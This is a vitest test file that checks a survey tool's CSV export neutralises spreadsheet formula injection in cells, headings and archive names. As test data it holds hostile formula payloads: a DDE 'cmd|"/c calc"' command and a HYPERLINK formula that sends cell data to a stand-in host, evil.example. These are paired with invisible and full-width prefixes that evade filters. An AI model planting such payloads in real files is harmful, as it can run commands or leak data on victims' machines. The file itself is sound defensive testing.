import { execFile } from 'node:child_process';
import { promisify } from 'node:util';
import { afterAll, beforeAll, expect, it } from 'vitest';
import type { Scope } from '#platform/db/core/scope.ts';
import { testDatabase, type TestDatabase } from '#platform/testing/database.ts';
import { text } from '#product/blocks/text.ts';
import { submitResponse } from '#product/responses/server/answering/submit-response.ts';
import { freshContent } from '#product/studies/fresh.ts';
import { makeBlock } from '#product/studies/server/testing/factory.ts';
import { makeWorkspace } from '#product/workspaces/server/testing/factory.ts';
import { readExportedCsv } from '#platform/csv/read-csv.ts';
import { makeStudy } from './testing/factory.ts';
import { formatArchiveName } from './list-entries.ts';
import { readSnapshot } from './read-snapshot.ts';
import { whereNotDeleted } from '#product/responses/server/stream-answered.ts';
import { readExportedStudy, streamCsv } from './stream-csv.ts';

const run = promisify(execFile);
const NOW = new Date('2026-05-04T09:00:00Z');

/** Beginnings that spreadsheets run, bare, after blanks and quotes, and in their full-width forms. */
const STARTS = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  ' =',
  '"=',
  "'=",
  '\u00a0=',
  '\ufeff=',
  '\u200b=',
  '＝',
  '＋',
  '－',
  '＠',
];
const BODIES = [
  '1+1',
  'cmd|"/c calc"!A1',
  'HYPERLINK("http://evil.example?x="&A1,"go")',
  'SUM(A1:A9)*2',
  '2+3-1',
];
const HOSTILE = STARTS.flatMap((start) => BODIES.map((body) => `${start}${body}`));
/** Not to be run, and not to be changed either. */
const HARMLESS = [
  'a=b',
  '1+1',
  'it\'s "so"',
  'x'.repeat(20_000),
  '👩‍🔬 e\u0301 \u202eabc',
  'line\nbreak\r\nand, comma;',
  "'quoted'",
];
const NUMBERS = [-5, -0.25, 0, 7.5, 89];

let db: TestDatabase;
let scope: Scope;
beforeAll(async () => {
  db = await testDatabase();
  scope = await makeWorkspace(db.database, NOW, { name: '=1+1' });
});
afterAll(() => db.drop());

const single = (at: number) => `option${String(at).padStart(4, '0')}`;
const typed = [...HOSTILE, ...HARMLESS];

async function csvOf(as: 'label' | 'code', study: string): Promise<string> {
  let csv = '';
  await readSnapshot(db.database, scope, async (sql) => {
    const found = await readExportedStudy(sql, scope, study);
    for await (const chunk of streamCsv(sql, found!, as, whereNotDeleted(scope, study)))
      csv += chunk.toString();
  });
  return csv;
}

/** The cells as Python’s reader finds them, which shares no code with ours. */
async function cellsOf(csv: string): Promise<string[][]> {
  const script = `
import csv, io, json, sys
csv.field_size_limit(10 ** 9)
data = sys.stdin.buffer.read().decode('utf-8-sig')
print(json.dumps(list(csv.reader(io.StringIO(data, newline='')))))`;
  const reading = run('python3', ['-c', script], { maxBuffer: 256e6 });
  reading.child.stdin!.end(csv);
  return JSON.parse((await reading).stdout) as string[][];
}

/** What LibreOffice and Excel take for a formula: the first visible character, whatever stands unseen before it. */
const runs = (cell: string) => /^["\s\ufeff\u200b]*[=+\-@\uff1d\uff0b\uff0d\uff20]/u.test(cell);

it('J1: no cell or heading is run as a formula, negative numbers stay numbers, and all text survives', async () => {
  const options = HOSTILE.slice(0, 40).map((hostile, at) => ({
    id: single(at),
    text: text(hostile),
    fixed: false,
  }));
  const open = makeBlock('open-question', '=HYPERLINK("http://evil.example","title")', {
    config: { maxLength: 20_000 },
  });
  const choice = makeBlock('single-choice', '+choice', { config: { options } });
  const several = makeBlock('multiple-choice', '@several', { config: { options } });
  const number = makeBlock('number', '-number', { config: { min: -100, max: 100 } });
  const blocks = [open, choice, several, number, makeBlock('ending', 'Thank you')];
  const made = await makeStudy(db.database, scope, {
    name: '=cmd|x',
    content: { ...freshContent('survey'), blocks },
  });
  for (const [at, hostile] of typed.entries())
    await submitResponse(db.database, { ...scope, now: new Date(NOW.getTime() + at) }, made, {
      key: `key ${at}`,
      answers: {
        [open.id]: { text: hostile },
        [choice.id]: { option: single(at % 40), other: null },
        [several.id]: { options: [single(at % 40), single((at + 1) % 40)], other: null },
        [number.id]: { number: NUMBERS[at % NUMBERS.length] },
      },
      device: 'phone',
      channel: 'link',
    });
  for (const as of ['label', 'code'] as const) {
    const csv = await csvOf(as, made.study);
    const [head = [], ...rows] = await cellsOf(csv);
    expect(rows).toHaveLength(typed.length);
    expect(new Set(rows.map((row) => row.length))).toEqual(new Set([head.length]));
    const numeric = head.findIndex((name) => (as === 'code' ? name === number.id : name.includes('-number')));
    expect(head.filter(runs)).toEqual([]);
    for (const row of rows) expect(row.filter((cell, at) => at !== numeric && runs(cell))).toEqual([]);
    expect(rows.map((row) => row[numeric])).toEqual(
      typed.map((_, at) => String(NUMBERS[at % NUMBERS.length])),
    );
    // Our own reader takes the guard away again: what was typed is what comes back.
    const [, ...own] = readExportedCsv(csv);
    const column = head.findIndex((name) => (as === 'code' ? name === open.id : name.includes('HYPERLINK')));
    expect(own.map((row) => row[column])).toEqual(typed);
  }
});

it('J1: file names are no formulas either', () => {
  for (const name of HOSTILE)
    expect(formatArchiveName(name, NOW)).not.toMatch(/^[\s"']*[=+\-@\uff1d\uff0b\uff0d\uff20]/u);
});
